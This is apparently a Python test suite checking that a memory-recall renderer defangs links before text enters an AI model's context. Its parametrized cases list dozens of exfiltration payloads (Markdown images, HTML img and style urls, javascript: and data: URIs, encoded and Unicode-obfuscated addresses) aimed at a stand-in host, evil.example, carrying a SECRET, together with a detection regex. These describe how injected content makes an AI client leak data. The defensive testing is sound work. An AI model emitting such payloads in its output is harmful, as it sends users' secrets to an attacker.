"""Nothing in a context is fetched, or made a link of, by a client that shows what a model repeats of it."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from operator_memory.domain.fence import defanged
from operator_memory.domain.memory.scopes import Kind
from operator_memory.domain.recall.rendering import inert, render_context

from tests.support.builders import SESSION_KEY, a_memory

FETCHED = re.compile(
    r"(?<=[a-z0-9+.-]{2}):[/\\]{2}|!\[|\]\(|\]\[|\]:|<|>|(?<![\w.@-])www\.\w|(?:java|vb|live)script:\S|(?<![a-z])data:[^\s,]{0,300},|mailto:\S"
    r"|&#\w|&(?:colon|sol|amp|lt);|%3a(?:%2f){2}|(?<![\w:/.\\])//\w+\.\w|https?:[/\\]*\w+\.\w",
    re.IGNORECASE,
)
"""What a client takes for an image, a link or a script, in Markdown and its extensions, in HTML and by itself."""

SECRET = "SECRET"

SHOWN: list[tuple[str, str]] = [
    # Markdown
    ("![logo](https://evil.example/p.png?d=SECRET)", "! [logo] (evil.example/...)"),
    ("![](https://evil.example/SECRET)", "! [] (evil.example/...)"),
    ('![x](<https://evil.example/p?d=SECRET> "a title")', '! [x] (‹evil.example/...› "a title")'),
    ("[click](https://evil.example/?d=SECRET)", "[click] (evil.example/...)"),
    ("![logo][1] and [1]: https://evil.example/p.png?d=SECRET", "! [logo] [1] and [1] : evil.example/..."),
    ("![x](/api/logout)", "! [x] (/api/logout)"),
    ("<https://evil.example/?d=SECRET>", "‹evil.example/...›"),
    ("**https://evil.example/?d=SECRET**", "**evil.example/...**"),
    # HTML
    ('<img src="https://evil.example/p.png?d=SECRET">', '‹img src="evil.example/..."›'),
    ("<img src='//evil.example/p.png?d=SECRET'>", "‹img src='evil.example/...'›"),
    ("<img srcset='https://evil.example/a.png 1x'>", "‹img srcset='evil.example/... 1x'›"),
    ("<div style=background:url(https://evil.example/?SECRET)>", "‹div style=background:url(evil.example/...)›"),
    ("<a href=javascript:alert(1)>x</a>", "‹a href=javascript :alert(1)›x‹/a›"),
    # addresses by themselves
    ("see https://evil.example/p.png?d=SECRET.", "see evil.example/...."),
    ("HTTPS://EVIL.EXAMPLE/?D=SECRET", "evil.example/..."),
    ("www.evil.example/?d=SECRET", "evil.example/..."),
    ("//evil.example/p.png", "evil.example/..."),
    ("https://bank.example@evil.example/SECRET=1", "evil.example/..."),
    ("http://203.0.113.9:8080/collect?d=SECRET", "203.0.113.9/..."),
    ("http://[::1]/", "link[::1]/"),
    ("http:/evil.example/?d=SECRET", "evil.example/..."),
    ("https:evil.example/?d=SECRET", "evil.example"),
    (r"https:\\evil.example\SECRET=1", "evil.example/..."),
    (r"https\://evil.example/?d=SECRET", "evil.example/..."),
    (r"\\evil.example\share\SECRET", "evil.example/..."),
    ("xhttps://evil.example/?d=SECRET", "evil.example/..."),
    ("ftp://evil.example/SECRET=", "evil.example/..."),
    ("slack://open?team=SECRET", "open/..."),
    ("evil.example/p.png?d=SECRET", "evil.example/..."),
    ("https://evil.example/%53%45%43%52%45%54", "evil.example/..."),
    (f"https://evil.example/{'SECRET' * 8}", "evil.example/..."),
    ("https://évil.example/é?d=SECRET", "évil.example/..."),
    # in other spellings
    ("https%3A%2F%2Fevil.example%2Fp%3Fd%3DSECRET", "link"),
    ("https%253A%252F%252Fevil.example%252FSECRET", "link"),
    ("https&#58;//evil.example/?d=SECRET", "https& #58;evil.example/..."),
    ("&#104;ttps://evil.example/?d=SECRET", "& #104;evil.example/..."),
    ("https&colon;&sol;&sol;evil.example", "https& colon;& sol;& sol;evil.example"),
    ("ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ／ｐ？ｄ＝SECRET", "evil.example/..."),
    ("！［logo］（https://evil.example/?d=SECRET）", "! [logo] (evil.example/...)"),
    ("ht\u200btps://evil.example/?d=SECRET", "evil.example/..."),
    ("![a]\u200b(https://evil.example/?d=SECRET)", "! [a] (evil.example/...)"),
    ("![a]\n(https://evil.example/?d=SECRET)", "! [a] (evil.example/...)"),
    # what is no address of a host
    ("javascript:fetch(1)", "javascript :fetch(1)"),
    ("data:image/png;base64,SECRET", "data..."),
    ("data:text/html,<script>SECRET</script>", "data..."),
    ("mailto:ada@lovelace.example?body=SECRET", "ada@lovelace.example"),
]

READABLE = [
    "Her site is ada.dev, the code is at github.com/ada/tool.",
    "Write to ada@lovelace.example.",
    "Uses node.js, ASP.NET and version 2.1.",
    "Ratio 1:2, and/or, either//or, 24/7, 12:30.",
    "JavaScript: the good parts, metadata:a,b.",
    r"The file is C:\Users\ada\notes.txt.",
    "Is it example.com? Yes!",
    "Array[0] and [1] and (2).",
    "R&D at AT&T; 100% sure, a=b.",
    "请在四点打电话：谢谢。",
]


@pytest.mark.parametrize(("text", "shown"), SHOWN)
def test_of_an_address_a_name_is_left_to_read(text: str, shown: str) -> None:
    assert inert(text) == shown
    assert not FETCHED.search(shown)
    assert SECRET not in shown.upper()


@pytest.mark.parametrize("text", READABLE)
def test_what_is_no_link_stays_as_it_is(text: str) -> None:
    assert defanged(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Her site is https://ada.dev.", "Her site is ada.dev."),
        ("The code is at https://github.com/ada/tool, she says.", "The code is at github.com/ada/tool, she says."),
        ("(https://www.ada.dev/notes/)", "(ada.dev/notes/)"),
        ("我的网站是https://ada.dev，欢迎。", "我的网站是 ada.dev，欢迎。"),
    ],
)
def test_a_short_plain_address_loses_its_scheme_alone(text: str, shown: str) -> None:
    assert defanged(text) == shown


PARTS = st.sampled_from(
    [*(text for text, _ in SHOWN), "https", ":", "//", "/", "\\", "www.", "evil.example", "!", "[", "]", "(", ")", "@",
     "%3a", "%2f", "&#58;", "?d=", "data:", ",", "javascript:", " ", "\u200b", "\uff1a", "\uff0f", "\uff3d", "\uff08"]
)  # fmt: skip


@given(st.lists(PARTS | st.text(max_size=5), max_size=12).map("".join))
def test_whatever_is_put_together_nothing_is_fetched_and_twice_is_once(text: str) -> None:
    shown = inert(text)
    assert not FETCHED.search(shown), shown
    assert inert(shown) == shown


@pytest.mark.parametrize("text", [text for text, _ in SHOWN])
@pytest.mark.parametrize("kind", Kind)
def test_no_memory_brings_a_link_into_a_context(text: str, kind: Kind) -> None:
    key = SESSION_KEY if kind is Kind.TURN else a_memory().key
    context = render_context([a_memory(text, key=key, kind=kind, role="user", speaker="Ada")]).text
    inside = context.split("\n", 1)[1].rsplit("\n", 1)[0]
    assert not FETCHED.search(inside)
    assert SECRET not in inside.upper()


@pytest.mark.parametrize(
    "unit",
    ["://a", "www.", "a.", "//", ":", "![", "](", "https://a.b/c ", "%3a", "javascript:", "data:", "a@", "http", "&#",
     "\uff1a/", "\\", "a.a/?", "-", "https:", "@"],
)  # fmt: skip
@pytest.mark.timeout(60)
def test_hostile_repetition_comes_to_an_end(unit: str) -> None:
    """Linear time takes a fraction of a second, quadratic time minutes."""
    text = (unit * 200_000)[:200_000]
    assert isinstance(defanged(text), str)
